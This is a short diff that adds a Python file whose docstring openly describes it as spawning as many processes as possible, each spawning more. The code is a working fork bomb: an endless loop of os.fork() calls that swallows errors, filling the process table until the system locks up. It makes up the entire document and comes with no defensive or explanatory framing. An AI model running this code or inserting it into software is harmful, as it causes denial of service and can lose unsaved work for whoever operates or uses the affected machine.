@@ -1,0 +1,9 @@
+"""As many processes as there can be, each making more."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
